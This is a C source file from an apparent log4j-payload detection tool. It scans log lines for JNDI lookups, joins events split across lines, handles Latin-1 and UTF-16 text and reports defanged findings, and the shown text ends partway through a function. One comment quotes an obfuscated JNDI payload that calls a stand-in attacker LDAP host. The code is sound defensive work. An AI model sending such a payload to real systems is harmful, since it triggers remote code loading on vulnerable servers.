/*
 * log_scan.c -- the line scanner of `defuse logs`: turns a stream of text
 * bytes into records (findings, warnings) with 1-based line numbers.
 *
 * The fast path never looks at a line without a candidate: blocks are
 * handed to defuse__candidate_nl(), which jumps to the next byte where a
 * lookup could start and counts the newlines it passed in the same pass;
 * defuse_scan() runs only on the line around a candidate.
 * A line that is not valid UTF-8 is taken as Latin-1 and converted before
 * scanning (log4j sees characters).  A line longer than max_line bytes is
 * scanned in its first max_line bytes and a warning names its line.
 */
#include "logs.h"

/* defuse__candidate_nl(): candidate search and line count in one pass;
 * DEFUSE__SCAN_HAS_CANDIDATE */
#include "../lib/decode_extra.h"

#include <stdlib.h>
#include <string.h>
#if defined(__SSE2__)
#include <emmintrin.h>
#endif

struct lscan {
    defuse_scanner *sc;
    int own_sc;
    const lscan_opts *o;
    int year;
    lrec_sink sink;
    void *user;
    uint64_t line;  /* newlines consumed */
    uint64_t nfind; /* findings reported (after the kind filter) */

    char *carry; /* the partial line at the end of the last block */
    size_t carry_len, carry_cap;
    int overlong; /* the carried line passed max_line: rest dropped */

    char *conv; /* Latin-1 -> UTF-8 line buffer */
    size_t conv_cap;

    /* the line being scanned, for the finding callback */
    const char *cur;
    size_t cur_len;
    uint64_t cur_line;  /* its 1-based number */
    const char *joined; /* a joined window being scanned (cur is one of its lines) */
    size_t joined_len;
    uint64_t fields_line; /* the line whose fields are in `fields` (0: none) */
    int fields_done;
    lf_fields fields;
    int line_has_time; /* the time of the text being scanned (detect()) */
    int64_t line_ms;
    int err; /* first allocation failure in the callback */

    /* The join window (multi-line events, see "multi-line events"): the
     * raw lines from one whose "${" is left open, each stored with the
     * '\n' it ended with, until the expressions close or a bound is hit. */
    char *jbuf;
    size_t jlen, jcap;
    size_t joff[LOGS_JOIN_LINES + 1];                  /* start of each line in jbuf */
    long jnet[LOGS_JOIN_LINES], jmin[LOGS_JOIN_LINES]; /* brace_effect() per line */
    size_t jn;                                         /* lines in the window */
    uint64_t jfirst;                                   /* number of its first line */
    char *jtmp;                                        /* copy of the window when it is re-fed */
    size_t jtmp_cap;
    /* While the lines of a window are scanned alone: the kind and callback
     * of each finding (collect 1; 2: collect without reporting), so that
     * the window's own scan reports only what no line gives alone. */
    struct seenf {
        defuse_kind kind;
        char *cb;
    } * seen;
    size_t nseen, seencap;
    int collect;
    uint64_t tail_line; /* lookahead past the range: lines above this number
                           only complete a window (0: no lookahead) */

    /* The UTF-16 view (see "UTF-16 view"): NULL, or the line scanner of
     * the file read as UTF-16, fed from the same bytes. */
    struct u16view *u16;
    uint64_t fed; /* bytes fed so far (the UTF-16 view's offsets) */
    /* With the UTF-16 view on, the records of both views are queued during
     * a call and handed to the caller's sink in line order at its end. */
    struct qrec {
        lrec *r;
        size_t seq;
    } * q;
    size_t qn, qcap;
    lrec_sink out_sink;
    void *out_user;
    int nul_watch; /* start the UTF-16 view at the first block with a NUL */
};

/* ---- small growable string ------------------------------------------------ */

typedef struct sbuf {
    char *p;
    size_t len, cap;
    int oom;
} sbuf;

static void sb_add(sbuf *b, const char *s, size_t n) {
    if (b->oom)
        return;
    if (b->len + n + 1 > b->cap) {
        size_t cap = b->cap ? b->cap : 128;
        while (cap < b->len + n + 1)
            cap *= 2;
        char *p = realloc(b->p, cap);
        if (!p) {
            b->oom = 1;
            return;
        }
        b->p = p, b->cap = cap;
    }
    memcpy(b->p + b->len, s, n);
    b->len += n;
    b->p[b->len] = '\0';
}

static void sb_str(sbuf *b, const char *s) { sb_add(b, s, strlen(s)); }

/* Attacker strings shown to people are cut to this many bytes (a payload
 * can be megabytes of nesting); --json keeps them whole. */
#define HUMAN_MAX_SHOWN 400u

static void sb_defang(sbuf *b, const char *s, size_t n) {
    size_t cut = 0;
    if (n > HUMAN_MAX_SHOWN) {
        cut = n;
        n = HUMAN_MAX_SHOWN;
        while (n > 0 && ((unsigned char)s[n] & 0xC0) == 0x80)
            n--; /* do not split a UTF-8 sequence */
    }
    char out[HUMAN_MAX_SHOWN * 5 + 1]; /* defanging grows a byte to 4 at most */
    size_t need = defuse_defang(s, n, out, sizeof out);
    sb_add(b, out, need < sizeof out ? need : sizeof out - 1);
    if (cut) {
        char more[48];
        snprintf(more, sizeof more, "...(%zu bytes)", cut);
        sb_str(b, more);
    }
}

/* ---- newline counting -------------------------------------------------- */

#if defined(__x86_64__) && defined(__GNUC__)
#include <immintrin.h>
/* AVX2 variant: 32 bytes per compare, lanes summed with VPSADBW every 255
 * rounds.  Chosen at run time when the CPU has AVX2. */
__attribute__((target("avx2"))) static size_t count_nl_avx2(const char *p, size_t n) {
    size_t count = 0, i = 0;
    const __m256i nl = _mm256_set1_epi8('\n'), zero = _mm256_setzero_si256();
    while (i + 32 <= n) {
        __m256i acc = zero;
        size_t rounds = (n - i) / 32;
        if (rounds > 255)
            rounds = 255;
        for (size_t r = 0; r < rounds; r++, i += 32)
            acc = _mm256_sub_epi8(
                acc, _mm256_cmpeq_epi8(_mm256_loadu_si256((const __m256i *)(const void *)(p + i)), nl));
        __m256i sums = _mm256_sad_epu8(acc, zero);
        count += (size_t)_mm256_extract_epi64(sums, 0) + (size_t)_mm256_extract_epi64(sums, 1) +
                 (size_t)_mm256_extract_epi64(sums, 2) + (size_t)_mm256_extract_epi64(sums, 3);
    }
    for (; i < n; i++)
        count += p[i] == '\n';
    return count;
}
#endif

static size_t count_nl_base(const char *p, size_t n) {
    size_t count = 0, i = 0;
#if defined(__SSE2__)
    /* Compare 16 bytes at a time; each match subtracts -1 (adds 1) to a
     * byte lane; lanes are summed with PSADBW before they can overflow
     * (at most 255 rounds).  No POPCNT needed. */
    const __m128i nl = _mm_set1_epi8('\n'), zero = _mm_setzero_si128();
    while (i + 16 <= n) {
        __m128i acc = zero;
        size_t rounds = (n - i) / 16;
        if (rounds > 255)
            rounds = 255;
        for (size_t r = 0; r < rounds; r++, i += 16)
            acc = _mm_sub_epi8(acc, _mm_cmpeq_epi8(_mm_loadu_si128((const __m128i *)(const void *)(p + i)), nl));
        __m128i sums = _mm_sad_epu8(acc, zero);
        count += (size_t)_mm_cvtsi128_si32(sums) + (size_t)_mm_cvtsi128_si32(_mm_srli_si128(sums, 8));
    }
#else
    /* Word-at-a-time: a byte of x is zero exactly where p had '\n'. */
    const uint64_t ones7 = 0x7F7F7F7F7F7F7F7FULL, nls = 0x0A0A0A0A0A0A0A0AULL;
    for (; i + 8 <= n; i += 8) {
        uint64_t w;
        memcpy(&w, p + i, 8);
        uint64_t x = w ^ nls;
        uint64_t t = ((x & ones7) + ones7) | x;
        count += (size_t)__builtin_popcountll(~t & ~ones7);
    }
#endif
    for (; i < n; i++)
        count += p[i] == '\n';
    return count;
}

size_t lscan_count_newlines(const char *p, size_t n) {
#if defined(__x86_64__) && defined(__GNUC__)
    static int avx2 = -1; /* accessed atomically: workers share it */
    int have = __atomic_load_n(&avx2, __ATOMIC_RELAXED);
    if (have < 0) {
        __builtin_cpu_init();
        have = __builtin_cpu_supports("avx2") ? 1 : 0;
        __atomic_store_n(&avx2, have, __ATOMIC_RELAXED);
    }
    if (have && n >= 64)
        return count_nl_avx2(p, n);
#endif
    return count_nl_base(p, n);
}

/* ---- records ------------------------------------------------------------ */

void lrec_free(lrec *r) {
    if (!r)
        return;
    free(r->text);
    free(r->src_ip);
    free(r->host);
    free(r->exfil);
    free(r->command);
    free(r->line_text);
    free(r->json);
    free(r);
}

static void emit_message(lscan *s, int type, uint64_t line, const char *text) {
    lrec *r = calloc(1, sizeof *r);
    if (!r)
        return;
    r->type = type;
    r->line = line;
    r->text = strdup(text);
    r->hour = LF_NO_HOUR;
    s->sink(s->user, r);
}

static char *dup_or_null(const char *s) { return s ? strdup(s) : NULL; }

/* Human text after "file:line: KIND ": the callback (or the decoded
 * payload), techniques, source, exfiltration keys, command; all defanged. */
static char *render_human(const defuse_finding *f, const lf_fields *fl) {
    sbuf b = {0};
    if (f->callback)
        sb_defang(&b, f->callback, strlen(f->callback));
    else if (f->decoded)
        sb_defang(&b, f->decoded, f->decoded_len);
    int first = 1;
    for (unsigned i = 0; i < DEFUSE_TECH_COUNT; i++) {
        const char *name = defuse_technique_name(1u << i);
        if ((f->techniques & (1u << i)) && name) {
            sb_str(&b, first ? " [" : ",");
            sb_str(&b, name);
            first = 0;
        }
    }
    if (!first)
        sb_str(&b, "]");
    if (fl->src_ip[0]) {
        sb_str(&b, " src=");
        sb_str(&b, fl->src_ip);
    }
    for (size_t i = 0; i < f->nexfil && i < DEFUSE_MAX_REPORTED_EXFIL; i++) {
        sb_str(&b, i ? "," : " exfil=");
        sb_defang(&b, f->exfil[i], strlen(f->exfil[i]));
    }
    if (f->command) {
        sb_str(&b, " cmd=\"");
        sb_defang(&b, f->command, strlen(f->command));
        sb_str(&b, "\"");
    }
    if (b.oom) {
        free(b.p);
        return NULL;
    }
    return b.p ? b.p : strdup("");
}

/* The finding as a JSON object with src_ip and time first (--json, and
 * for the --syslog/--webhook sinks).  Returns a malloc'd string or NULL. */
static char *render_json(const lscan *s, const defuse_finding *f) {
    char *out = NULL;
    /* src_ip and time hold only address and time characters (no
     * escaping needed); they are spliced in front of the finding's
     * members here rather than passed as `extra`, which the
     * library would have to parse for every finding.  Both are always
     * there (null when the line gives none); the time always has a zone:
     * a log time without one is taken as UTC, like --since, and says so
     * in time_zone_assumed. */
    char extra[640];
    const char *t = s->fields.time;
    size_t tl = strlen(t);
    int zoned = tl && t[tl - 1] == 'Z';
    int n = snprintf(extra, sizeof extra, "%s\"src_ip\":%s%s%s,",
                     s->o->json_head ? s->o->json_head : "",
                     s->fields.src_ip[0] ? "\"" : "", s->fields.src_ip[0] ?
                     s->fields.src_ip : "null", s->fields.src_ip[0] ? "\"" : "");
    if (tl && n > 0 && (size_t)n < sizeof extra)
        n += snprintf(extra + n, sizeof extra - (size_t)n,
                      "\"time\":\"%s%s\",\"time_zone_assumed\":%s,", t,
                      zoned ? "" : "Z", zoned ? "false" : "true");
    else if (n > 0 && (size_t)n < sizeof extra)
        n += snprintf(extra + n, sizeof extra - (size_t)n,
                      "\"time\":null,\"time_zone_assumed\":null,");
    if (n < 0 || (size_t)n >= sizeof extra)
        n = 0; /* cannot happen: the head is bounded by cmd_logs */
    char *body = defuse_finding_to_json(f, NULL);
    if (body && n > 0) {
        size_t bl = strlen(body);
        out = malloc(bl + (size_t)n + 1);
        if (out) {
            out[0] = '{';
            memcpy(out + 1, extra, (size_t)n);
            memcpy(out + 1 + n, body + 1, bl); /* includes the NUL */
        }
        free(body);
    } else {
        out = body;
    }
    return out;
}

static int on_finding(const defuse_finding *f, void *user) {
    lscan *s = user;
    if ((unsigned)f->kind >= 32 || !(s->o->kind_mask & (1u << f->kind)))
        return 0;
    uint64_t line = s->cur_line, end_line = 0;
    const char *cbk = f->callback ? f->callback : "";
    if (s->collect) {
        if (s->nseen == s->seencap) {
            size_t cap = s->seencap ? s->seencap * 2 : 16;
            struct seenf *v = realloc(s->seen, cap * sizeof *v);
            if (!v)
                goto oom0;
            s->seen = v, s->seencap = cap;
        }
        if (!(s->seen[s->nseen].cb = strdup(cbk)))
            goto oom0;
        s->seen[s->nseen++].kind = f->kind;
        if (s->collect == 2)
            return 0;
    }
    if (s->joined) {
        for (size_t i = 0; i < s->nseen; i++)
            if (s->seen[i].kind == f->kind && strcmp(s->seen[i].cb, cbk) == 0)
                return 0; /* a line of the window gives it alone */
        /* A joined window: the payload's raw offset tells its lines; the
         * fields (src_ip, time) come from the line where it starts. */
        size_t off = f->offset < s->joined_len ? f->offset : s->joined_len;
        size_t plen = f->payload_len < s->joined_len - off ? f->payload_len : s->joined_len - off;
        line = s->cur_line + lscan_count_newlines(s->joined, off);
        uint64_t span = lscan_count_newlines(s->joined + off, plen);
        end_line = span ? line + span : 0;
        if (s->tail_line && line > s->tail_line)
            return 0; /* starts past the range: the next chunk reports it */
        if (s->fields_line != line) {
            const char *ls = s->joined + off;
            while (ls > s->joined && ls[-1] != '\n')
                ls--;
            const char *le = memchr(s->joined + off, '\n', s->joined_len - off);
            s->cur = ls;
            s->cur_len = (size_t)((le ? le : s->joined + s->joined_len) - ls);
            s->fields_done = 0;
            s->fields_line = line;
        }
    }
    s->nfind++;
    if (!s->fields_done && (!s->o->quiet || s->o->want_summary)) {
        lf_extract(s->cur, s->cur_len, s->year, &s->fields);
        s->fields_done = 1;
    }
    lrec *r = calloc(1, sizeof *r);
    if (!r)
        goto oom;
    r->type = LREC_FINDING;
    r->line = line;
    r->end_line = end_line;
    r->kind = f->kind;
    r->hour = LF_NO_HOUR;
    r->has_time = s->line_has_time;
    r->time_ms = s->line_ms;
    if (s->o->want_line && !s->o->quiet) {
        size_t k = s->cur_len < LSCAN_LINE_MAX ? s->cur_len : LSCAN_LINE_MAX;
        if (k && s->cur[k - 1] == '\r')
            k--;
        if (!(r->line_text = malloc(k + 1)))
            goto oom;
        memcpy(r->line_text, s->cur, k);
        r->line_text[k] = '\0';
        r->line_len = k;
        r->line_full = s->cur_len;
    }
    if (!s->o->quiet) {
        r->text = s->o->json ? render_json(s, f) : render_human(f, &s->fields);
        if (!r->text)
            goto oom;
    }
    if (s->o->want_json) {
        r->json = s->o->json && r->text ? strdup(r->text) : render_json(s, f);
        if (!r->json)
            goto oom;
    }
    if (s->o->want_summary) {
        r->src_ip = s->fields.src_ip[0] ? strdup(s->fields.src_ip) : NULL;
        r->hour = s->fields.hour;
        r->hour_zoned = strchr(s->fields.time, 'Z') != NULL;
        r->host = dup_or_null(f->host);
        r->command = dup_or_null(f->command);
        if (f->nexfil) {
            sbuf b = {0};
            for (size_t i = 0; i < f->nexfil && i < DEFUSE_MAX_REPORTED_EXFIL; i++) {
                if (i)
                    sb_str(&b, "\n");
                sb_str(&b, f->exfil[i]);
            }
            r->exfil = b.p;
        }
    }
    s->sink(s->user, r);
    return 0;
oom:
    lrec_free(r);
oom0:
    s->err = DEFUSE_ENOMEM;
    return 1;
}

/* Whether p[0..n) is valid UTF-8 (ASCII fast path). */
static int valid_utf8(const unsigned char *p, size_t n) {
    size_t i = 0;
    /* ASCII eight bytes at a time: byte by byte this loop was a fifth of
     * the time spent on each candidate line. */
    for (uint64_t w; i + 8 <= n; i += 8) {
        memcpy(&w, p + i, 8);
        if (w & UINT64_C(0x8080808080808080))
            break;
    }
    while (i < n) {
        if (p[i] < 0x80) {
            i++;
            continue;
        }
        unsigned c = p[i];
        size_t len = c >= 0xC2 && c <= 0xDF ? 2 : c >= 0xE0 && c <= 0xEF ? 3
                                              : c >= 0xF0 && c <= 0xF4 ? 4
                                                                       : 0;
        if (!len || i + len > n)
            return 0;
        for (size_t k = 1; k < len; k++)
            if ((p[i + k] & 0xC0) != 0x80)
                return 0;
        i += len;
    }
    return 1;
}

/* Converts p[0..n) into s->conv from offset at as Latin-1 (every byte one
 * character; high bytes take two).  Returns the new length or a negative
 * defuse_err. */
static ssize_t latin1_into(lscan *s, size_t at, const char *p, size_t n) {
    if (n > (SIZE_MAX - 1 - at) / 2)
        return DEFUSE_ELIMIT;
    if (s->conv_cap < at + n * 2 + 1) {
        char *c = realloc(s->conv, at + n * 2 + 1);
        if (!c)
            return DEFUSE_ENOMEM;
        s->conv = c, s->conv_cap = at + n * 2 + 1;
    }
    size_t o = at;
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)p[i];
        if (c < 0x80) {
            s->conv[o++] = (char)c;
        } else {
            s->conv[o++] = (char)(0xC0 | (c >> 6));
            s->conv[o++] = (char)(0x80 | (c & 0x3F));
        }
    }
    return (ssize_t)o;
}

/* Runs the detector on p[0..n) (the line cur_line, or a joined window). */
static int detect(lscan *s, const char *p, size_t n) {
    s->fields_done = 0;
    s->fields_line = 0;
    /* ${date:...} formats the event's time: take it from the line's own
     * timestamp when it has one (otherwise the library evaluates several
     * times and marks what depends on it). */
    int64_t ms;
    int tz;
    s->line_has_time = defuse_log_time(p, n, &ms, &tz, NULL) == 0;
    s->line_ms = s->line_has_time ? ms : 0;
    defuse_scanner_set_time(s->sc, s->line_has_time ? ms : DEFUSE_TIME_UNKNOWN,
                            s->line_has_time ? tz : 0);
    /* Every caller found a candidate in the text: the scan need not look
     * for one again. */
    int r = defuse_scan(s->sc, p, n, s->o->flags | DEFUSE__SCAN_HAS_CANDIDATE, on_finding, s);
    s->joined = NULL;
    if (s->err)
        return s->err;
    if (r < 0 && r != DEFUSE_ESTOPPED) {
        char msg[160];
        snprintf(msg, sizeof msg, "detector error: %s", defuse_strerror(r));
        emit_message(s, LREC_WARNING, s->cur_line, msg);
    }
    return 0;
}

/* Scans one line (without its '\n'), number lineno. */
static int scan_line(lscan *s, const char *p, size_t n, int truncated, uint64_t lineno) {
    if (n > 0 && p[n - 1] == '\r')
        n--;
    if (n > s->o->max_line) {
        n = s->o->max_line;
        truncated = 1;
    }
    if (truncated) {
        char msg[160];
        snprintf(msg, sizeof msg,
                 "line longer than %zu bytes: only its first %zu bytes were scanned",
                 s->o->max_line, s->o->max_line);
        emit_message(s, LREC_WARNING, lineno, msg);
    }
    if (!valid_utf8((const unsigned char *)p, n)) {
        ssize_t o = latin1_into(s, 0, p, n);
        if (o < 0)
            return (int)o;
        p = s->conv, n = (size_t)o;
    }
    s->cur = p, s->cur_len = n, s->cur_line = lineno, s->joined = NULL;
    return detect(s, p, n);
}

/* ---- multi-line events ----------------------------------------------------
 *
 * A line feed inside a message splits one event over log lines:
 * "${jn${<LF>:-}di:ldap://evil.example/a}" made log4j request
 * ldap://evil.example/a (the inner "${\n:-}" is ""), and neither line
 * holds a payload alone.  A line that leaves a "${" open (counted as log4j
 * and the detector pair them: "}" closes the innermost open "${", a "}"
 * with none open is text) starts a window; the following lines join it,
 * with the line ends the log had, until the count is back to zero at the
 * end of a line.  Then each line of the window is scanned alone (its
 * findings stay at its line) and the window as one text, which reports
 * only findings (kind and callback) that no line gave alone; a finding's
 * raw offset gives its first and last line.  Bounds (logs.h):
 * LOGS_JOIN_LINES lines and LOGS_JOIN_BYTES bytes after the first line.
 * When the window would pass them, its first line is scanned alone and the
 * other lines are taken again from the start (each may open a window of
 * its own), so a "${" that never closes costs at most one bounded window
 * and hides nothing after it.
 */

/* The effect of p[0..n) on the count of open "${": net change and the
 * lowest running value from 0.  Entering with d open, d' = max(d, -min) +
 * net leave (a "}" is text when none is open). */
static void brace_effect(const char *p, size_t n, long *net, long *min) {
    long d = 0, lo = 0;
    const char *e = p + n;
    while (p < e) {
        const char *q = memchr(p, '}', (size_t)(e - p));
        const char *stop = q ? q : e;
        for (const char *a = p; a + 1 < stop; a++) /* "${" before the "}" */
            if (a[0] == '$' && a[1] == '{')
                d++, a++;
        if (!q)
            break;
        if (--d < lo)
            lo = d;
        p = q + 1;
    }
    *net = d;
    *min = lo;
}

/* Open "${" left by a line alone (0: none).  Most candidate lines hold no
 * "${" at all: memmem answers those. */
static long opens_left(const char *p, size_t n) {
    /* memchr() for '$' (SIMD) rather than memmem(): glibc's memmem for a
     * two-byte needle is a scalar loop, 5% of the time on a file of
     * candidate lines. */
    const char *e = p + n, *q = p;
    while ((q = memchr(q, '$', (size_t)(e - q))) != NULL && q + 1 < e && q[1] != '{')
        q++;
    if (!q || q + 1 >= e)
        return 0;
    long net, min;
    brace_effect(p, n, &net, &min);
    return -min + net;
}

static long window_depth(const lscan *s) {
    long d = 0;
    for (size_t i = 0; i < s->jn; i++)
        d = (d > -s->jmin[i] ? d : -s->jmin[i]) + s->jnet[i];
    return d;
}

static int line_in(lscan *s, const char *p, size_t n, int truncated, int has_nl, uint64_t lineno,
                   int cand);

static void queue_sink(void *user, lrec *r);
static void queue_flush(lscan *s);
static int window_join(lscan *s);

/* Scans the window: each line alone, then the window as one text for
 * what spans lines (findings the lines give alone are not repeated);
 * empties it.  Records are handed on in line order. */
static int window_scan(lscan *s) {
    int divert = s->sink != queue_sink;
    if (divert) {
        s->out_sink = s->sink, s->out_user = s->user;
        s->sink = queue_sink, s->user = s;
    }
    int r = 0;
    for (size_t i = 0; r == 0 && i < s->jn; i++) {
        size_t a = s->joff[i], b = i + 1 < s->jn ? s->joff[i + 1] : s->jlen;
        if (b > a && s->jbuf[b - 1] == '\n')
            b--;
        if (defuse_candidate(s->jbuf + a, b - a) >= b - a)
            continue;
        uint64_t no = s->jfirst + i;
        s->collect = s->tail_line && no > s->tail_line ? 2 : 1;
        r = scan_line(s, s->jbuf + a, b - a, 0, no);
    }
    s->collect = 0;
    if (r == 0)
        r = window_join(s);
    for (size_t i = 0; i < s->nseen; i++)
        free(s->seen[i].cb);
    s->nseen = 0;
    s->jn = s->jlen = 0;
    if (divert) {
        s->sink = s->out_sink, s->user = s->out_user;
        queue_flush(s);
    }
    return r;
}

/* The window as one text (window_scan). */
static int window_join(lscan *s) {
    size_t end = s->jlen;
    if (end > s->joff[s->jn - 1] && s->jbuf[end - 1] == '\n')
        end--;
    if (end > s->joff[s->jn - 1] && s->jbuf[end - 1] == '\r')
        end--;
    const char *p = s->jbuf;
    size_t n = end;
    if (!valid_utf8((const unsigned char *)p, n)) {
        /* Latin-1 line by line: a UTF-8 line beside it stays as it is. */
        size_t o = 0;
        for (size_t i = 0; i < s->jn; i++) {
            size_t a = s->joff[i], b = i + 1 < s->jn ? s->joff[i + 1] : end;
            ssize_t r;
            if (valid_utf8((const unsigned char *)p + a, b - a)) {
                r = latin1_into(s, o, "", 0); /* room only */
                if (r >= 0 && s->conv_cap < o + (b - a) + 1) {
                    char *c = realloc(s->conv, o + (b - a) + 1);
                    r = c ? r : DEFUSE_ENOMEM;
                    if (c)
                        s->conv = c, s->conv_cap = o + (b - a) + 1;
                }
                if (r >= 0) {
                    memcpy(s->conv + o, p + a, b - a);
                    r = (ssize_t)(o + (b - a));
                }
            } else {
                r = latin1_into(s, o, p + a, b - a);
            }
            if (r < 0)
                return (int)r;
            o = (size_t)r;
        }
        p = s->conv, n = o;
    }
    s->cur = p, s->cur_len = n, s->cur_line = s->jfirst;
    s->joined = p, s->joined_len = n;
    return detect(s, p, n);
}

/* The window cannot grow and is still open: its first line is scanned
 * alone, the others are taken again from the start. */
static int window_shift(lscan *s) {
    const char *p0 = s->jbuf;
    size_t n0 = (s->jn > 1 ? s->joff[1] : s->jlen);
    size_t rest = s->jlen - n0;
    if (s->jtmp_cap < s->jlen + 1) {
        char *t = realloc(s->jtmp, s->jlen + 1);
        if (!t)
            return DEFUSE_ENOMEM;
        s->jtmp = t, s->jtmp_cap = s->jlen + 1;
    }
    memcpy(s->jtmp, p0, s->jlen);
    size_t offs[LOGS_JOIN_LINES + 1], nl = s->jn;
    memcpy(offs, s->joff, sizeof offs);
    uint64_t first = s->jfirst;
    s->jn = s->jlen = 0;
    int r = 0;
    int nl0 = n0 > 0 && s->jtmp[n0 - 1] == '\n';
    if (defuse_candidate(s->jtmp, n0 - (size_t)nl0) < n0 - (size_t)nl0)
        r = scan_line(s, s->jtmp, n0 - (size_t)nl0, 0, first);
    for (size_t i = 1; r == 0 && i < nl; i++) {
        size_t a = offs[i], b = i + 1 < nl ? offs[i + 1] : n0 + rest;
        int has_nl = b > a && s->jtmp[b - 1] == '\n';
        r = line_in(s, s->jtmp + a, b - a - (size_t)has_nl, 0, has_nl, first + i, 0);
    }
    return r;
}

/* Adds a line to the window (starting one if empty). */
static int window_push(lscan *s, const char *p, size_t n, int truncated, int has_nl,
                       uint64_t lineno) {
    for (;;) {
        if (s->jn == 0)
            break;
        size_t cont = s->jlen - (s->jn > 1 ? s->joff[1] : s->jlen) + n + 2;
        if (!truncated && s->jn < LOGS_JOIN_LINES && cont <= LOGS_JOIN_BYTES &&
            s->jlen + n + 2 <= s->o->max_line)
            break;
        int r = window_shift(s);
        if (r < 0)
            return r;
        if (s->jn == 0) /* no window left: the line is an ordinary one */
            return line_in(s, p, n, truncated, has_nl, lineno, 0);
    }
    if (s->jn == 0)
        s->jfirst = lineno;
    if (s->jlen + n + 2 > s->jcap) {
        size_t cap = s->jcap ? s->jcap : 4096;
        while (cap < s->jlen + n + 2)
            cap *= 2;
        char *b = realloc(s->jbuf, cap);
        if (!b)
            return DEFUSE_ENOMEM;
        s->jbuf = b, s->jcap = cap;
    }
    s->joff[s->jn] = s->jlen;
    brace_effect(p, n, &s->jnet[s->jn], &s->jmin[s->jn]);
    s->jn++;
    memcpy(s->jbuf + s->jlen, p, n);
    s->jlen += n;
    if (has_nl)
        s->jbuf[s->jlen++] = '\n';
    if (window_depth(s) <= 0)
        return window_scan(s);
    return 0;
}

/* Resolves an open window at the end of the input (or of a wait in
 * --follow): every line is scanned, alone or in the windows that close
 * among them. */
static int window_force(lscan *s) {
    int r = 0;
    while (r == 0 && s->jn > 0)
        r = window_shift(s);
    return r;
}

/* One complete line p[0..n) (without its '\n'; has_nl: it had one),
 * number lineno; cand: a candidate is known to be in it. */
static int line_in(lscan *s, const char *p, size_t n, int truncated, int has_nl, uint64_t lineno,
                   int cand) {
    if (s->jn > 0)
        return window_push(s, p, n, truncated, has_nl, lineno);
    if (s->tail_line && lineno > s->tail_line)
        return 0; /* lookahead past the range, no window open */
    size_t m = n > 0 && p[n - 1] == '\r' ? n - 1 : n;
    if (!cand && defuse_candidate(p, n) >= n) {
        if (truncated || m > s->o->max_line)
            return scan_line(s, "", 0, 1, lineno); /* still warn: the rest went unexamined */
        return 0;
    }
    if (!truncated && m <= s->o->max_line && opens_left(p, m) > 0)
        return window_push(s, p, n, 0, has_nl, lineno);
    return scan_line(s, p, n, truncated, lineno);
}

/* ---- UTF-16 view -----------------------------------------------------------
 *
 * One region must not decide how a whole file is read: a log4j app logged
 * a user name of 40,000 "A\0", and reading the whole file as UTF-16
 * because its start looked so hid every UTF-8 payload after it.  So a file
 * whose start holds a UTF-16 byte-order mark or NUL bytes is read both
 * ways: as bytes (the ordinary scan, which never misses a UTF-8 payload)
 * and, here, as UTF-16 line by line.  Each raw line (bytes up to a 0x0A)
 * whose NUL bytes sit at one parity of the file offset (high bytes of
 * Latin-range UTF-16; or every line, when the file has a BOM) is decoded;
 * every other raw line becomes an empty line.  Either way one raw line
 * gives one line, so a finding of the view has the line number of the byte
 * view (UTF-16 line ends hold one 0x0A byte).  Without a BOM the low byte
 * (the non-NUL parity) starts each code unit, which decodes Latin-range
 * text of either byte order.  Decoded by hand rather than with iconv: the
 * alignment is chosen per line and no state may cross lines.  A file with
 * both UTF-16 lines and NUL-free UTF-8 lines is named once on stderr with
 * the byte offset where the first change was seen.
 */
enum { U16_OTHER = 0, U16_YES = 1, U16_TEXT = 2 };
/* Bytes of a raw line examined to classify it. */
#define U16_CLASSIFY_MAX 65536u

typedef struct u16view {
    lscan *ls;         /* line scanner of the decoded text */
    int bom;           /* 0 none, 1 UTF-16LE, 2 UTF-16BE: every line decoded so */
    uint64_t off;      /* file offset of the next byte fed */
    uint64_t line_off; /* file offset of the raw line being collected */
    char *line;        /* the raw line (at most 2 * max_line + 2 bytes kept) */
    size_t len, cap;
    char *out; /* its decoded text */
    size_t outcap;
    int first_class; /* U16_YES or U16_TEXT of the first such line, or 0 */
    int skip_line;   /* started inside a line: drop bytes up to its end */
    int warned;
} u16view;

/* U16_YES (NULs at one parity; *low: the parity of the other bytes),
 * U16_TEXT (no NUL, valid UTF-8) or U16_OTHER. */
static int u16_classify(const unsigned char *q, size_t m, uint64_t off, int *low) {
    size_t k = m < U16_CLASSIFY_MAX ? m : U16_CLASSIFY_MAX;
    size_t cnt[2] = {0, 0}, nul[2] = {0, 0};
    for (size_t i = 0; i < k; i++) {
        unsigned par = (unsigned)((off + i) & 1);
        cnt[par]++;
        nul[par] += q[i] == 0;
    }
    if (nul[0] + nul[1] == 0)
        return m > 0 && valid_utf8(q, m) ? U16_TEXT : U16_OTHER;
    if (k < 4)
        return U16_OTHER;
    for (unsigned p = 0; p < 2; p++)
        if (nul[p] * 4 >= cnt[p] * 3 && nul[1 - p] * 10 <= cnt[1 - p]) {
            *low = (int)(1 - p);
            return U16_YES;
        }
    return U16_OTHER;
}

static size_t put_utf8(char *o, uint32_t c) {
    if (c < 0x80) {
        o[0] = (char)c;
        return 1;
    }
    if (c < 0x800) {
        o[0] = (char)(0xC0 | (c >> 6));
        o[1] = (char)(0x80 | (c & 0x3F));
        return 2;
    }
    if (c < 0x10000) {
        o[0] = (char)(0xE0 | (c >> 12));
        o[1] = (char)(0x80 | ((c >> 6) & 0x3F));
        o[2] = (char)(0x80 | (c & 0x3F));
        return 3;
    }
    o[0] = (char)(0xF0 | (c >> 18));
    o[1] = (char)(0x80 | ((c >> 12) & 0x3F));
    o[2] = (char)(0x80 | ((c >> 6) & 0x3F));
    o[3] = (char)(0x80 | (c & 0x3F));
    return 4;
}

/* Handles the collected raw line (has_nl: a 0x0A ended it). */
static int u16_line(lscan *s, int has_nl) {
    u16view *u = s->u16;
    const unsigned char *q = (const unsigned char *)u->line;
    size_t m = u->len;
    int low = 0, cls = u16_classify(q, m, u->line_off, &low);
    if (cls != U16_OTHER) {
        if (!u->first_class) {
            u->first_class = cls;
        } else if (cls != u->first_class && !u->warned) {
            char msg[200];
            snprintf(msg, sizeof msg,
                     "mixed encodings: UTF-16 and UTF-8 lines in one file (first change at "
                     "byte offset %llu): read both ways",
                     (unsigned long long)u->line_off);
            emit_message(s, LREC_WARNING, 0, msg);
            u->warned = 1;
        }
    }
    int be = 0, start = 0, decode = 0;
    if (u->bom) {
        decode = 1, be = u->bom == 2, start = (int)(u->line_off & 1); /* units at even offsets */
    } else if (cls == U16_YES) {
        decode = 1, start = ((u->line_off & 1) != (uint64_t)low); /* units start at a low byte */
    }
    size_t o = 0;
    if (decode) {
        if (u->outcap < m * 2 + 2) {
            char *b = realloc(u->out, m * 2 + 2);
            if (!b)
                return DEFUSE_ENOMEM;
            u->out = b, u->outcap = m * 2 + 2;
        }
